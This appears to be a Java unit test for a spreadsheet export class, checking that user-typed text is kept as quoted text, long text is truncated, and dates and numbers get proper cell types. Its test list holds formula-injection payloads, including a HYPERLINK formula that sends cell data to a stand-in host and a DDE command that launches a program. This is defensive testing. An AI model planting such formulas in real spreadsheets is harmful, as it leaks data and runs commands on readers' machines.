package org.lvzhi.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.List;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/** What the public typed stays text in every export, no text breaks one, and dates and numbers are dates and numbers. */
class SpreadsheetTests {

	static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
			"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1");

	@Test
	void marksEveryTextAFormulaCouldHideInAsQuotedTextAndKeepsItsValue() throws IOException {
		Row row = writeAndRead(FORMULAS.toArray()).getRow(1);
		for (int i = 0; i < FORMULAS.size(); i++) {
			Cell cell = row.getCell(i);
			assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
			assertThat(cell.getStringCellValue()).isEqualTo(FORMULAS.get(i));
			assertThat(cell.getCellStyle().getQuotePrefixed()).as(FORMULAS.get(i)).isTrue();
		}
	}

	@Test
	void leavesOrdinaryTextAndNumbersAlone() throws IOException {
		Row row = writeAndRead("关于加强社区养老服务的建议", 12, "a=b").getRow(1);
		assertThat(row.getCell(0).getCellStyle().getQuotePrefixed()).isFalse();
		assertThat(row.getCell(1).getNumericCellValue()).isEqualTo(12);
		assertThat(row.getCell(2).getCellStyle().getQuotePrefixed()).isFalse();
	}

	@Test
	void cutsATextLongerThanACellHoldsWithAMarkerInsteadOfFailing() throws IOException {
		Row row = writeAndRead("理".repeat(1_000_000)).getRow(1);
		String value = row.getCell(0).getStringCellValue();
		assertThat(value).hasSize(Spreadsheet.MAX_CELL_LENGTH).endsWith(Spreadsheet.TRUNCATED).startsWith("理理理");
	}

	@Test
	void writesDatesAndTimesAsDateCellsAndNumbersAsNumbers() throws IOException {
		var sheet = writeAndRead(LocalDate.of(2026, 3, 5), LocalDateTime.of(2026, 3, 5, 9, 30),
				OffsetDateTime.of(2026, 3, 4, 23, 30, 0, 0, ZoneOffset.UTC), "2026-03-06", "2026-03-06 14:05", 3.5,
				"2026-13-45", "第2026-03号");
		Row row = sheet.getRow(1);
		for (int i = 0; i < 5; i++) {
			assertThat(row.getCell(i).getCellType()).as("column " + i).isEqualTo(CellType.NUMERIC);
			assertThat(DateUtil.isCellDateFormatted(row.getCell(i))).as("column " + i).isTrue();
		}
		assertThat(row.getCell(0).getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2026, 3, 5));
		assertThat(row.getCell(0).getCellStyle().getDataFormatString()).isEqualTo("yyyy-mm-dd");
		assertThat(row.getCell(1).getLocalDateTimeCellValue()).isEqualTo(LocalDateTime.of(2026, 3, 5, 9, 30));
		// a moment lands on the committee's day: 23:30 UTC is 07:30 the next morning in Beijing
		assertThat(row.getCell(2).getLocalDateTimeCellValue()).isEqualTo(LocalDateTime.of(2026, 3, 5, 7, 30));
		assertThat(row.getCell(3).getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2026, 3, 6));
		assertThat(row.getCell(4).getLocalDateTimeCellValue()).isEqualTo(LocalDateTime.of(2026, 3, 6, 14, 5));
		assertThat(row.getCell(5).getCellType()).isEqualTo(CellType.NUMERIC);
		assertThat(DateUtil.isCellDateFormatted(row.getCell(5))).isFalse();
		assertThat(row.getCell(6).getCellType()).isEqualTo(CellType.STRING);
		assertThat(row.getCell(7).getCellType()).isEqualTo(CellType.STRING);
		assertThat(sheet.getRow(0).getCell(0).getCellStyle().getFontIndex()).isNotZero();
		assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
		assertThat(sheet.getColumnWidth(1)).isGreaterThanOrEqualTo(16 * 256);
	}

	private static org.apache.poi.ss.usermodel.Sheet writeAndRead(Object... values) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (Spreadsheet sheet = new Spreadsheet("s", List.of("a", "b", "c", "d", "e", "f", "g", "h"))) {
			sheet.row(values);
			sheet.writeTo(out);
		}
		return new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray())).getSheetAt(0);
	}
}
